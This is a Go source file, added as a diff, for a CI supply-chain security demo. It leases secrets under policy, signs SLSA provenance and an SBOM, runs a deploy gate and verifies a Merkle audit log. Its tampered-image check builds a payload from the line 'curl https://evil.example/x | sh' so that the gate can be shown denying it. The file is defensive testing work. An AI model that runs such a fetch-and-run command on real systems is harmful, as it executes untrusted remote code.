@@ -1,0 +1,570 @@
+package job
+
+import (
+	"archive/tar"
+	"bytes"
+	"context"
+	"crypto/ed25519"
+	"errors"
+	"fmt"
+	"io"
+	"log/slog"
+	"os"
+	"strings"
+	"time"
+
+	"github.com/google/go-containerregistry/pkg/name"
+	v1 "github.com/google/go-containerregistry/pkg/v1"
+	"github.com/google/go-containerregistry/pkg/v1/empty"
+	"github.com/google/go-containerregistry/pkg/v1/mutate"
+	"github.com/google/go-containerregistry/pkg/v1/remote"
+	"github.com/google/go-containerregistry/pkg/v1/static"
+	"github.com/google/go-containerregistry/pkg/v1/types"
+	"github.com/spiffe/go-spiffe/v2/spiffeid"
+
+	"github.com/ztci/ztci/attest"
+	"github.com/ztci/ztci/audit"
+	"github.com/ztci/ztci/examples/internal/admission"
+	"github.com/ztci/ztci/identity"
+	"github.com/ztci/ztci/identity/oidc"
+	"github.com/ztci/ztci/registry"
+	"github.com/ztci/ztci/secrets"
+)
+
+// Config configures Run.
+type Config struct {
+	// Out receives the human-readable progress, including the jobs' logs
+	// (after redaction). Nil discards.
+	Out io.Writer
+	// SecretValue is the value of the demo secret the release job leases.
+	// Empty: a random one. It must be at least secrets.MinMaskLen bytes.
+	SecretValue string
+	// Dir holds the audit log and the lease journal. Empty: a temporary
+	// directory, removed when Run returns unless KeepDir.
+	Dir     string
+	KeepDir bool
+	// Services points pieces at real services (see Services).
+	Services Services
+	// Logger receives the SDK's diagnostics (default: silent).
+	Logger *slog.Logger
+}
+
+// Summary is the machine-readable outcome of Run (the runner's --json).
+type Summary struct {
+	Jobs       []JobSummary      `json:"jobs"`
+	ImageCheck *GateCheck        `json:"modified_image_check,omitempty"`
+	Audit      AuditSummary      `json:"audit"`
+	Services   map[string]string `json:"services"`
+	DurationMS int64             `json:"duration_ms"`
+}
+
+// JobSummary is one job's outcome.
+type JobSummary struct {
+	Name      string              `json:"name"`
+	Ref       string              `json:"ref"`
+	Protected bool                `json:"protected"`
+	Identity  string              `json:"identity"`
+	SPIFFEID  string              `json:"spiffe_id,omitempty"`
+	Secrets   []SecretOutcome     `json:"secrets"`
+	Image     string              `json:"image"`
+	Digest    string              `json:"digest"`
+	Signed    []string            `json:"attestations"`
+	Gate      *admission.Response `json:"gate"`
+	// LeasesRevoked reports that every lease was revoked when the job ended
+	// and that reading it afterwards fails.
+	LeasesRevoked bool `json:"leases_revoked"`
+}
+
+// SecretOutcome is what happened to one secret request.
+type SecretOutcome struct {
+	Name    string `json:"name"`
+	Granted bool   `json:"granted"`
+	LeaseID string `json:"lease_id,omitempty"`
+	Expires string `json:"expires,omitempty"`
+	Reason  string `json:"reason,omitempty"`
+}
+
+// GateCheck is a gate decision outside a job (the modified-image check).
+type GateCheck struct {
+	Image    string              `json:"image"`
+	Response *admission.Response `json:"gate"`
+}
+
+// AuditSummary is the audit log's verification.
+type AuditSummary struct {
+	Path              string `json:"path"`
+	Entries           uint64 `json:"entries"`
+	Checkpoints       int    `json:"checkpoints"`
+	Verified          bool   `json:"verified"`
+	InclusionIndex    uint64 `json:"inclusion_index"`
+	InclusionVerified bool   `json:"inclusion_verified"`
+	// SecretAbsent reports that the secret value appears nowhere in the
+	// audit log file.
+	SecretAbsent bool `json:"secret_absent"`
+}
+
+// The two jobs the demo runs.
+var (
+	releaseJob  = jobSpec{name: "release", ref: "refs/heads/main", protected: true, tag: "v1"}
+	tamperedJob = jobSpec{name: "tampered-branch", ref: "refs/heads/feature/unreviewed", protected: false, tag: "feature-unreviewed"}
+)
+
+type jobSpec struct {
+	name, ref, tag string
+	protected      bool
+}
+
+// jobRun is a job in flight.
+type jobRun struct {
+	spec     jobSpec
+	runID    string
+	commit   string
+	claims   identity.Claims
+	identity identity.Identity
+	log      *secrets.RedactWriter
+	sum      *JobSummary
+}
+
+// Run runs the demo: a release job that is allowed to deploy, a job from an
+// unprotected branch that is denied, and a modified image that is denied;
+// then it verifies the audit log. An error means the demo itself failed
+// (a deny is not an error).
+func Run(ctx context.Context, cfg Config) (*Summary, error) {
+	start := time.Now()
+	if cfg.Out == nil {
+		cfg.Out = io.Discard
+	}
+	if cfg.Logger == nil {
+		cfg.Logger = discardLogger()
+	}
+	if cfg.SecretValue == "" {
+		cfg.SecretValue = "s3cr3t-" + randomHex(16)
+	}
+	if err := cfg.Services.Validate(); err != nil {
+		return nil, err
+	}
+	p := &progress{w: cfg.Out}
+
+	p.step("Start the runner's embedded services")
+	e, err := newEnv(ctx, cfg)
+	if err != nil {
+		return nil, p.fail(err)
+	}
+	defer e.close()
+	p.okf("OIDC issuer %s (discovery + JWKS over HTTP)", e.issuer.URL())
+	p.okf("code-signing CA %q (10-minute certificates), RFC 3161 TSA, SPIFFE issuer %s", e.ca.Certificate().Subject.CommonName, e.spiffeSource())
+	p.okf("OCI registry %s (referrers API), audit log %s", e.regHost, e.auditPath)
+	p.okf("policy: built-in library rev %s; secrets broker with redactor and lease journal", short(e.engine.Revision()))
+
+	sum := &Summary{Services: e.services()}
+	for _, spec := range []jobSpec{releaseJob, tamperedJob} {
+		js, err := e.runJob(ctx, p, spec)
+		if err != nil {
+			return nil, p.fail(fmt.Errorf("job %s: %w", spec.name, err))
+		}
+		sum.Jobs = append(sum.Jobs, *js)
+	}
+
+	p.step("Modified image: someone re-pushes tag v1 with other content")
+	chk, err := e.modifiedImage(ctx, p)
+	if err != nil {
+		return nil, p.fail(err)
+	}
+	sum.ImageCheck = chk
+
+	p.step("Verify the audit log offline")
+	if sum.Audit, err = e.verifyAudit(ctx, p); err != nil {
+		return nil, p.fail(err)
+	}
+	sum.DurationMS = time.Since(start).Milliseconds()
+	p.done(sum)
+	return sum, nil
+}
+
+func (e *env) spiffeSource() string {
+	if e.sources != nil {
+		return "Workload API " + e.cfg.Services.SPIFFESocket
+	}
+	return "spiffe://" + TrustDomain
+}
+
+func (e *env) services() map[string]string {
+	pick := func(real, embedded string) string {
+		if real != "" {
+			return real
+		}
+		return embedded
+	}
+	s := e.cfg.Services
+	return map[string]string{
+		"oidc_issuer": e.issuer.URL(),
+		"ca":          pick(s.Fulcio, "embedded"),
+		"tsa":         pick(s.TSA, "embedded"),
+		"rekor":       pick(s.Rekor, "none"),
+		"registry":    pick(s.Registry, "embedded "+e.regHost),
+		"spiffe":      pick(s.SPIFFESocket, "embedded"),
+		"secrets":     "embedded broker (static backend)",
+		"audit":       e.auditPath,
+	}
+}
+
+func (e *env) runJob(ctx context.Context, p *progress, spec jobSpec) (*JobSummary, error) {
+	j := &jobRun{spec: spec, runID: randomHex(4), commit: randomHex(20)}
+	j.sum = &JobSummary{Name: spec.name, Ref: spec.ref, Protected: spec.protected}
+	j.claims = identity.Claims{
+		Platform: "ztci", Repository: Repository, Ref: spec.ref, RefProtected: spec.protected,
+		Commit: j.commit, Workflow: Workflow, WorkflowRef: Repository + "/" + Workflow + "@" + spec.ref,
+		Job: spec.name, RunID: j.runID, RunAttempt: "1", Event: "push", Actor: "dev-alice", Runner: "hosted",
+	}
+
+	p.stepf("Job %q on %s (protected: %v): identity", spec.name, spec.ref, spec.protected)
+	tok, err := e.issuer.Mint(ctx, oidc.Job{Subject: SignerSAN, Claims: j.claims}, audienceRunner)
+	if err != nil {
+		return nil, err
+	}
+	id, err := e.tokens.Verify(ctx, tok.Reveal())
+	if err != nil {
+		return nil, fmt.Errorf("verify job token: %w", err)
+	}
+	j.identity = id
+	j.sum.Identity = id.ID()
+	p.okf("job token %s (jti %s) verified → %s, ref %s", tok, tok.ID(), id.ID(), id.Claims.Ref)
+	if sid, err := e.svid(ctx, j); err != nil {
+		return nil, fmt.Errorf("svid: %w", err)
+	} else {
+		j.sum.SPIFFEID = sid
+		p.okf("X.509-SVID %s", sid)
+	}
+
+	// The job's own output goes through the redactor to the terminal.
+	j.log = e.redactor.NewWriter(&prefixWriter{w: p.w, prefix: "      │ "})
+	var held *secrets.Lease
+	err = e.broker.Run(ctx, secrets.JobSpec{ID: spec.name + "-" + j.runID, Identity: id, Token: secrets.NewValue(tok.Reveal())},
+		func(ctx context.Context, sj *secrets.Job) error {
+			lease, err := e.lease(ctx, p, j, sj)
+			if err != nil {
+				return err
+			}
+			held = lease
+			return e.buildAttestDeploy(ctx, p, j, lease)
+		})
+	if ferr := j.log.Close(); err == nil {
+		err = ferr
+	}
+	if err != nil {
+		return nil, err
+	}
+	p.step(fmt.Sprintf("Job %q ended", spec.name))
+	if held != nil {
+		_, verr := held.Value()
+		j.sum.LeasesRevoked = errors.Is(verr, secrets.ErrRevoked)
+		p.okf("lease %s revoked when the job ended (reading it now: %v)", held.ID(), verr)
+	} else {
+		j.sum.LeasesRevoked = true
+		p.okf("no lease to revoke")
+	}
+	return j.sum, nil
+}
+
+// svid returns the job's SPIFFE ID, from the Workload API or the embedded
+// issuer.
+func (e *env) svid(ctx context.Context, j *jobRun) (string, error) {
+	if e.sources != nil {
+		s, err := e.sources.GetX509SVID()
+		if err != nil {
+			return "", err
+		}
+		return s.ID.String(), nil
+	}
+	id, err := spiffeid.FromSegments(e.svids.TrustDomain(), append([]string{"ci"}, append(strings.Split(Repository, "/"), j.spec.name)...)...)
+	if err != nil {
+		return "", err
+	}
+	s, err := e.svids.X509SVID(ctx, id, time.Time{})
+	if err != nil {
+		return "", err
+	}
+	return s.ID.String() + " (valid until " + s.Certificates[0].NotAfter.UTC().Format(time.TimeOnly) + " UTC)", nil
+}
+
+// lease asks for the deploy secret; a policy deny is reported, not fatal.
+func (e *env) lease(ctx context.Context, p *progress, j *jobRun, sj *secrets.Job) (*secrets.Lease, error) {
+	p.step("  policy decides which secrets the job may have")
+	l, err := sj.Lease(ctx, SecretName)
+	var denied *secrets.DeniedError
+	switch {
+	case errors.As(err, &denied):
+		j.sum.Secrets = append(j.sum.Secrets, SecretOutcome{Name: SecretName, Reason: denied.Reason})
+		p.denyf("secret %q: %s", SecretName, denied.Reason)
+		return nil, nil
+	case err != nil:
+		return nil, err
+	}
+	j.sum.Secrets = append(j.sum.Secrets, SecretOutcome{Name: SecretName, Granted: true, LeaseID: l.ID(),
+		Expires: l.ExpiresAt().UTC().Format(time.RFC3339)})
+	p.okf("lease %s on %q (expires %s); the job's log:", l.ID(), SecretName, l.ExpiresAt().UTC().Format(time.TimeOnly))
+	v, err := l.Value()
+	if err != nil {
+		return nil, err
+	}
+	// The job prints its secret, as jobs do by accident; the redactor
+	// masks it in the streamed log.
+	fmt.Fprintf(j.log, "+ deploy-cli login --token=%s\n", v.Reveal())
+	fmt.Fprintf(j.log, "login ok as %s\n", j.identity.ID())
+	if err := j.log.Flush(); err != nil {
+		return nil, err
+	}
+	return l, nil
+}
+
+func (e *env) buildAttestDeploy(ctx context.Context, p *progress, j *jobRun, lease *secrets.Lease) error {
+	p.step("  build an artifact and an OCI image")
+	ref, img, artifact, err := e.build(ctx, j)
+	if err != nil {
+		return fmt.Errorf("build: %w", err)
+	}
+	digest, _ := img.Digest()
+	j.sum.Image, j.sum.Digest = ref.String(), digest.String()
+	p.okf("artifact app (%d bytes), image %s@%s", len(artifact), ref, short(digest.String()))
+
+	p.step("  attest: SLSA provenance + CycloneDX SBOM, short-lived certificate + RFC 3161 timestamp")
+	signer, err := e.newSigner(ctx, *j)
+	if err != nil {
+		return fmt.Errorf("signer: %w", err)
+	}
+	stmts, err := statements(ctx, j, ref, img, artifact)
+	if err != nil {
+		return fmt.Errorf("statements: %w", err)
+	}
+	for _, st := range stmts {
+		b, err := attest.Sign(ctx, signer, st)
+		if err != nil {
+			return fmt.Errorf("sign: %w", err)
+		}
+		att, err := registry.Attach(ctx, ref, b)
+		if err != nil {
+			return fmt.Errorf("attach: %w", err)
+		}
+		j.sum.Signed = append(j.sum.Signed, st.PredicateType)
+		p.okf("%s signed as %s, attached as %s (%s)", st.PredicateType, SignerSAN, short(att.Artifact.DigestStr()), att.Path)
+	}
+
+	p.step("  deploy gate: resolve, discover, verify, evaluate policy")
+	resp, err := e.admit(ctx, j, ref.String())
+	if err != nil {
+		return err
+	}
+	j.sum.Gate = resp
+	p.gate(resp)
+	if lease != nil && resp.Allowed {
+		fmt.Fprintf(j.log, "+ deploy-cli rollout %s@%s\n", ref.Context(), resp.Digest)
+		fmt.Fprintf(j.log, "rolled out with token %s\n", mustReveal(lease))
+		if err := j.log.Flush(); err != nil {
+			return err
+		}
+	}
+	return nil
+}
+
+// admit asks the gate, with a token minted for the gate's audience.
+func (e *env) admit(ctx context.Context, j *jobRun, image string) (*admission.Response, error) {
+	tok, err := e.issuer.Mint(ctx, oidc.Job{Subject: SignerSAN, Claims: j.claims}, audienceGate)
+	if err != nil {
+		return nil, err
+	}
+	resp, err := e.gate.Decide(ctx, admission.Request{JobToken: admission.NewToken(tok.Reveal()), Image: image})
+	if err != nil {
+		return nil, fmt.Errorf("gate could not decide: %w", err)
+	}
+	return resp, nil
+}
+
+func mustReveal(l *secrets.Lease) string {
+	v, err := l.Value()
+	if err != nil {
+		return "<" + err.Error() + ">"
+	}
+	return v.Reveal()
+}
+
+// build "builds" the app: an artifact, and an image holding it, pushed to the
+// registry under the job's tag.
+func (e *env) build(ctx context.Context, j *jobRun) (name.Tag, v1.Image, []byte, error) {
+	artifact := fmt.Appendf(nil, "#!/bin/sh\necho 'acme app built from %s@%s by run %s'\n", j.spec.ref, j.commit, j.runID)
+	img, err := imageWith(artifact)
+	if err != nil {
+		return name.Tag{}, nil, nil, err
+	}
+	ref, err := name.NewTag(e.repo + ":" + j.spec.tag)
+	if err != nil {
+		return name.Tag{}, nil, nil, err
+	}
+	if err := remote.Write(ref, img, remote.WithContext(ctx)); err != nil {
+		return name.Tag{}, nil, nil, err
+	}
+	return ref, img, artifact, nil
+}
+
+func imageWith(artifact []byte) (v1.Image, error) {
+	var buf bytes.Buffer
+	tw := tar.NewWriter(&buf)
+	if err := tw.WriteHeader(&tar.Header{Name: "app", Mode: 0o755, Size: int64(len(artifact)), ModTime: time.Unix(0, 0)}); err != nil {
+		return nil, err
+	}
+	if _, err := tw.Write(artifact); err != nil {
+		return nil, err
+	}
+	if err := tw.Close(); err != nil {
+		return nil, err
+	}
+	base := mutate.MediaType(empty.Image, types.OCIManifestSchema1)
+	base = mutate.ConfigMediaType(base, types.OCIConfigJSON)
+	return mutate.AppendLayers(base, static.NewLayer(buf.Bytes(), types.OCILayer))
+}
+
+// statements are what the job signs about the image (and the artifact in it).
+func statements(ctx context.Context, j *jobRun, ref name.Tag, img v1.Image, artifact []byte) ([]*attest.Statement, error) {
+	digest, err := img.Digest()
+	if err != nil {
+		return nil, err
+	}
+	size, err := img.Size()
+	if err != nil {
+		return nil, err
+	}
+	mt, err := img.MediaType()
+	if err != nil {
+		return nil, err
+	}
+	imgSubj, err := attest.SubjectFromOCI(ref.Context().Name(), attest.OCIDescriptor{MediaType: string(mt), Digest: digest.String(), Size: size})
+	if err != nil {
+		return nil, err
+	}
+	appSubj, err := attest.SubjectFromReader(ctx, "app", bytes.NewReader(artifact))
+	if err != nil {
+		return nil, err
+	}
+	started := time.Now().UTC().Add(-2 * time.Second)
+	finished := time.Now().UTC()
+	source := SourceURI + "@" + j.spec.ref
+	prov := &attest.Provenance{
+		BuildDefinition: attest.BuildDefinition{
+			BuildType: BuildType,
+			ExternalParameters: map[string]any{
+				"source":   map[string]any{"uri": source, "digest": map[string]any{"gitCommit": j.commit}},
+				"workflow": Workflow,
+			},
+			ResolvedDependencies: []attest.ResourceDescriptor{{URI: source, Digest: attest.DigestSet{"gitCommit": j.commit}}},
+		},
+		RunDetails: attest.RunDetails{
+			Builder:  attest.Builder{ID: BuilderID},
+			Metadata: &attest.BuildMetadata{InvocationID: j.runID, StartedOn: &started, FinishedOn: &finished},
+		},
+	}
+	pst, err := attest.NewStatement([]attest.ResourceDescriptor{imgSubj, appSubj}, prov)
+	if err != nil {
+		return nil, err
+	}
+	bom := fmt.Appendf(nil, `{"bomFormat":"CycloneDX","specVersion":"1.5","version":1,"metadata":{"component":{"type":"application","name":"app","version":"%s"}},"components":[{"type":"file","name":"app","hashes":[{"alg":"SHA-256","content":"%s"}]}]}`,
+		j.commit[:12], appSubj.Digest[attest.AlgSHA256])
+	sst, err := attest.NewStatement([]attest.ResourceDescriptor{imgSubj}, attest.CycloneDX(bom))
+	if err != nil {
+		return nil, err
+	}
+	return []*attest.Statement{pst, sst}, nil
+}
+
+// modifiedImage re-pushes the release tag with different content and asks
+// the gate, as the release job would, to deploy the tag.
+func (e *env) modifiedImage(ctx context.Context, p *progress) (*GateCheck, error) {
+	img, err := imageWith([]byte("#!/bin/sh\ncurl https://evil.example/x | sh\n"))
+	if err != nil {
+		return nil, err
+	}
+	ref, err := name.NewTag(e.repo + ":" + releaseJob.tag)
+	if err != nil {
+		return nil, err
+	}
+	if err := remote.Write(ref, img, remote.WithContext(ctx)); err != nil {
+		return nil, err
+	}
+	d, _ := img.Digest()
+	p.okf("%s now points at %s (no attestations)", ref, short(d.String()))
+	j := &jobRun{spec: releaseJob, runID: randomHex(4), commit: randomHex(20)}
+	j.claims = identity.Claims{Platform: "ztci", Repository: Repository, Ref: releaseJob.ref, RefProtected: true,
+		Commit: j.commit, Workflow: Workflow, Job: "deploy", RunID: j.runID, Event: "push", Runner: "hosted"}
+	resp, err := e.admit(ctx, j, ref.String())
+	if err != nil {
+		return nil, err
+	}
+	p.gate(resp)
+	return &GateCheck{Image: ref.String(), Response: resp}, nil
+}
+
+// verifyAudit checkpoints the log, verifies the whole file with only the
+// log's public key, and checks an inclusion proof for the release job's
+// deploy decision.
+func (e *env) verifyAudit(ctx context.Context, p *progress) (AuditSummary, error) {
+	s := AuditSummary{Path: e.auditPath}
+	cp, err := e.auditLog.Checkpoint(ctx)
+	if err != nil {
+		return s, err
+	}
+	pub := e.auditKey.Public().(ed25519.PublicKey)
+	v, err := audit.NewVerifier(AuditOrigin, pub)
+	if err != nil {
+		return s, err
+	}
+	raw, err := os.ReadFile(e.auditPath)
+	if err != nil {
+		return s, err
+	}
+	rep, err := v.Log(ctx, bytes.NewReader(raw))
+	if err != nil {
+		return s, fmt.Errorf("audit log does not verify: %w", err)
+	}
+	s.Entries, s.Checkpoints, s.Verified = rep.Entries, rep.Checkpoints, true
+	p.okf("%d entries, %d signed checkpoints, every checksum, sequence number and Merkle root verified", rep.Entries, rep.Checkpoints)
+
+	var found *audit.Entry
+	err = audit.ReadEntries(ctx, bytes.NewReader(raw), func(en audit.Entry) error {
+		if found == nil && en.Event.Action == admission.AuditAction && en.Event.Outcome == audit.OutcomeAllow {
+			c := en
+			found = &c
+		}
+		return nil
+	})
+	if err != nil {
+		return s, err
+	}
+	if found == nil {
+		return s, errors.New("no allowed deploy decision in the audit log")
+	}
+	// The checkpoint as a third party would hold it: parsed from the signed
+	// note, then the proof checked against it.
+	signed, err := v.Checkpoint(cp.Signed)
+	if err != nil {
+		return s, err
+	}
+	proof, err := e.auditLog.InclusionProof(found.Index, signed.Size)
+	if err != nil {
+		return s, err
+	}
+	if err := v.Inclusion(signed, found.Index, found.Raw, proof); err != nil {
+		return s, fmt.Errorf("inclusion proof: %w", err)
+	}
+	s.InclusionIndex, s.InclusionVerified = found.Index, true
+	p.okf("inclusion proof for entry %d (%s %s on %s) against checkpoint size %d: ok (%d hashes)",
+		found.Index, found.Event.Action, found.Event.Outcome, short(found.Event.Resource), signed.Size, len(proof))
+	s.SecretAbsent = !bytes.Contains(raw, []byte(e.cfg.SecretValue))
+	p.okf("the secret's value appears nowhere in the audit log: %v", s.SecretAbsent)
+	return s, nil
+}
+
+// short abbreviates digests for the terminal.
+func short(s string) string {
+	if i := strings.Index(s, "sha256:"); i >= 0 && len(s) > i+7+12 {
+		return s[:i+7+12] + "…"
+	}
+	return s
+}
